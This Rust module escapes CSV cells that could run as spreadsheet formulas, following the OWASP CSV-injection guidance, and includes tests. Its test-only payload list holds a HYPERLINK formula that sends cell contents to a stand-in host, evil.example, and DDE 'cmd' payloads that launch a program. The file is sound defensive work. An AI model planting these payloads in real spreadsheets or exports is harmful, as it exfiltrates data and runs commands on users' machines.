//! Cells Riskdesk writes to CSV files never run as formulas in a spreadsheet: a cell that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe,
//! as the OWASP guidance on CSV injection describes. A real number (`-12.5`) is left as it
//! is, so negative amounts stay numbers. On import the apostrophe is taken off again, so a
//! rejects file fixed and imported round-trips.

use std::borrow::Cow;

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as written to a CSV file.
pub fn cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(first) if TRIGGERS.contains(&first) && !is_number(text) => {
            Cow::Owned(format!("'{text}"))
        }
        _ => Cow::Borrowed(text),
    }
}

/// A cell read from a CSV file: the apostrophe `cell` added is taken off.
pub fn unquote(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => text,
    }
}

fn is_number(text: &str) -> bool {
    let t = text.trim();
    !t.is_empty()
        && t.chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '-' | '+' | '.' | 'e' | 'E'))
        && t.parse::<f64>().is_ok_and(f64::is_finite)
}

/// The classic payloads, for tests.
#[cfg(test)]
pub const PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_stay_numbers() {
        for p in PAYLOADS {
            let written = cell(p);
            assert!(written.starts_with('\''), "{p:?} -> {written:?}");
            assert_eq!(unquote(&written), *p, "round trip");
        }
        for n in ["-12.5", "-1200", "+3", "0", "1e3"] {
            assert_eq!(cell(n), n);
        }
        for plain in ["Northwind", "", "O'Brien & Co", "'quoted'"] {
            assert_eq!(cell(plain), plain);
            assert_eq!(unquote(plain), plain);
        }
    }
}
